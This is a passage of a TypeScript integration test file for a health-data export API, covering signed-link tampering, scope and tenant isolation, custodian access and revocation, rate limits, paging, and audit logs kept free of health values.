    // Another user named as the holder of A's signature.
    await expectProblem(
      await api(`/v1/me/exports/${a.id}/download?token=${keyId}.${expiry}.${other.id}.${mac}`),
      403,
      "forbidden",
    );
    // An export that does not exist answers as a bad link does.
    await expectProblem(await api(`/v1/me/exports/${crypto.randomUUID()}/download?token=${tokenA}`), 403, "forbidden");
    await expectProblem(await api(`/v1/me/exports/${a.id}/download`), 400, "validation_failed");
    // The genuine link still works.
    expect((await api(a.download_url ?? "")).status).toBe(200);
  });
});

// ---- who may --------------------------------------------------------------------------------

describe("authorization", () => {
  let ownersExport: string;
  beforeAll(async () => {
    const res = await create({ format: "csv" });
    ownersExport = (await json<ExportAcceptedResponse>(res)).export_id;
  });

  it("refuses anonymous callers, missing scopes and apps acting for themselves", async () => {
    const anonymous = await api("/v1/me/exports", { method: "POST", body: "{}" });
    await expectProblem(anonymous, 401, "unauthorized");
    expect(anonymous.headers.get("www-authenticate")).toMatch(/^Bearer realm="dfda"/);
    await expectProblem(await api("/v1/me/exports"), 401, "unauthorized");
    await expectProblem(await api(`/v1/me/exports/${ownersExport}`), 401, "unauthorized");
    const narrow = await create({ format: "csv" }, vitalOnlyToken);
    await expectProblem(narrow, 403, "forbidden");
    expect(narrow.headers.get("www-authenticate")).toContain('error="insufficient_scope"');
    await expectProblem(await api("/v1/me/exports", { headers: auth(vitalOnlyToken) }), 403, "forbidden");
    await expectProblem(await create({ format: "csv" }, appToken), 403, "forbidden");
  });

  it("hides one person's exports from another person, and from another tenant", async () => {
    await expectProblem(await api(`/v1/me/exports/${ownersExport}`, { headers: auth(otherToken) }), 404, "not_found");
    await expectProblem(await api(`/v1/me/exports/${ownersExport}`, { headers: auth(foreignToken) }), 404, "not_found");
    const list = await json<ExportListResponse>(await api("/v1/me/exports", { headers: auth(otherToken) }));
    expect(list.data.map((e) => e.id)).not.toContain(ownersExport);
    // Naming the owner does not help someone who is not their custodian; the refusal is audited.
    await expectProblem(await create({ format: "csv" }, otherToken, `?user_id=${owner.id}`), 403, "forbidden");
    await expectProblem(
      await api(`/v1/me/exports/${ownersExport}?user_id=${owner.id}`, { headers: auth(otherToken) }),
      403,
      "forbidden",
    );
    await expectProblem(await create({ format: "csv" }, foreignToken, `?user_id=${owner.id}`), 403, "forbidden");
    const { rows } = await handle.client.query(
      "select 1 from audit_log where tenant_id = $1 and actor_user_id = $2 and subject_user_id = $3 and outcome = 'denied'",
      [tenant.id, other.id, owner.id],
    );
    expect(rows.length).toBeGreaterThanOrEqual(2);
  });

  it("exports only the owner's rows, never another person's at the same instants", async () => {
    const { response } = await exportOf({ format: "json" });
    const document = await json<{ observations: Array<{ id: string; value: number | null }> }>(response);
    const theirs = await handle.client.query<{ id: string }>("select id from observations where user_id = $1", [
      other.id,
    ]);
    const ids = new Set(document.observations.map((o) => o.id));
    for (const row of theirs.rows) expect(ids.has(row.id)).toBe(false);
    expect(document.observations.some((o) => o.value === 99 || o.value === 55)).toBe(false);
  });

  it("lets a linked custodian export their dependent's data, and lists it for both", async () => {
    const res = await create({ format: "csv" }, custodianToken, `?user_id=${owner.id}`);
    expect(res.status, await res.clone().text()).toBe(202);
    const accepted = await json<ExportAcceptedResponse>(res);
    expect(accepted.status_url).toBe(`${BASE}/v1/me/exports/${accepted.export_id}?user_id=${owner.id}`);
    await build(accepted.export_id);
    const record = await status(accepted.export_id, custodianToken, `?user_id=${owner.id}`);
    expect(record).toMatchObject({ status: "completed", requested_by: custodian.id });
    const [, ...rows] = parseCsv(await (await api(record.download_url ?? "")).text());
    expect(rows).toHaveLength((await stored()).size);
    // The owner sees it among their own; the custodian's own list does not hold it.
    const ownList = await json<ExportListResponse>(
      await api("/v1/me/exports?limit=200", { headers: auth(ownerToken) }),
    );
    expect(ownList.data.map((e) => e.id)).toContain(accepted.export_id);
    const custodianList = await json<ExportListResponse>(
      await api("/v1/me/exports", { headers: auth(custodianToken) }),
    );
    expect(custodianList.data.map((e) => e.id)).not.toContain(accepted.export_id);
    const { rows: audit } = await handle.client.query<{ details: { via: string } }>(
      "select details from audit_log where action = 'export.create' and resource_id = $1 and actor_user_id = $2 and subject_user_id = $3",
      [accepted.export_id, custodian.id, owner.id],
    );
    expect(audit[0]?.details.via).toBe("custodian");

    // Once the link is revoked, the custodian is refused.
    await handle.client.query("update custodian_links set revoked_at = now() where custodian_id = $1", [custodian.id]);
    try {
      await expectProblem(await create({ format: "csv" }, custodianToken, `?user_id=${owner.id}`), 403, "forbidden");
    } finally {
      await handle.client.query("update custodian_links set revoked_at = null where custodian_id = $1", [custodian.id]);
    }
  });

  it("stops a custodian's download link once the custodian link ends; the owner's link keeps working", async () => {
    const res = await create({ format: "csv" }, custodianToken, `?user_id=${owner.id}`);
    expect(res.status, await res.clone().text()).toBe(202);
    const { export_id: exportId } = await json<ExportAcceptedResponse>(res);
    await build(exportId);
    const custodianLink = (await status(exportId, custodianToken, `?user_id=${owner.id}`)).download_url ?? "";
    const ownerLink = (await status(exportId, ownerToken)).download_url ?? "";
    expect((await api(custodianLink)).status).toBe(200);
    await handle.client.query("update custodian_links set revoked_at = now() where custodian_id = $1", [custodian.id]);
    try {
      await expectProblem(await api(custodianLink), 403, "forbidden");
      expect((await api(ownerLink)).status).toBe(200);
      const { rows } = await handle.client.query<{ details: { reason: string } }>(
        "select details from audit_log where action = 'export.download' and outcome = 'denied' and resource_id = $1",
        [exportId],
      );
      expect(rows.map((r) => r.details.reason)).toContain("holder_not_permitted");
    } finally {
      await handle.client.query("update custodian_links set revoked_at = null where custodian_id = $1", [custodian.id]);
    }
    // A live link again: the same signed URL works again, because it is checked at every download.
    expect((await api(custodianLink)).status).toBe(200);
  });

  it("allows at most three exports queued or running at once", async () => {
    const client = await makeClient(tenant, { type: "public", scopes: ["openid", "observations:read"] });
    const busy = await userToken(client, await makeUser(tenant), "observations:read");
    for (let i = 0; i < 3; i++) expect((await create({ format: "csv" }, busy)).status).toBe(202);
    const refused = await create({ format: "csv" }, busy);
    await expectProblem(refused, 429, "rate_limited");
    expect(refused.headers.get("retry-after")).toBe("60");
  });
});

describe("GET /v1/me/exports", () => {
  it("lists the owner's exports newest first, paged", async () => {
    const first = await json<ExportListResponse>(await api("/v1/me/exports?limit=2", { headers: auth(ownerToken) }));
    expect(first.data).toHaveLength(2);
    expect(first.next_cursor).not.toBeNull();
    const second = await json<ExportListResponse>(
      await api(`/v1/me/exports?limit=2&cursor=${first.next_cursor}`, { headers: auth(ownerToken) }),
    );
    const ids = [...first.data, ...second.data].map((e) => e.id);
    expect(new Set(ids).size).toBe(4);
    expect(ids).toEqual([...ids].sort().reverse());
    await expectProblem(
      await api("/v1/me/exports?cursor=nonsense", { headers: auth(ownerToken) }),
      400,
      "invalid_cursor",
    );
  });
});

describe("audit", () => {
  it("records each creation and each download, without health data", async () => {
    const { record } = await exportOf({ format: "csv", filters: { categories: ["vital_signs"] } });
    const { rows } = await handle.client.query<{
      action: string;
      outcome: string;
      actor_user_id: string | null;
      details: Record<string, unknown>;
    }>("select action, outcome, actor_user_id, details from audit_log where resource_id = $1 order by id", [record.id]);
    expect(rows.map((r) => [r.action, r.outcome])).toEqual([
      ["export.create", "success"],
      ["export.download", "success"],
    ]);
    expect(rows[0]?.actor_user_id).toBe(owner.id);
    // Exactly these details and nothing else: no values, units or times of the exported data. (A
    // search for the value "72" in the serialized rows matched a UUID now and then.)
    expect(rows[0]?.details).toEqual({
      format: "csv",
      include_files: false,
      filters: { categories: ["vital_signs"] },
      via: "owner",
    });
    expect(rows[1]?.details).toEqual({ format: "csv", size_bytes: expect.any(Number), include_files: false });
  });
});
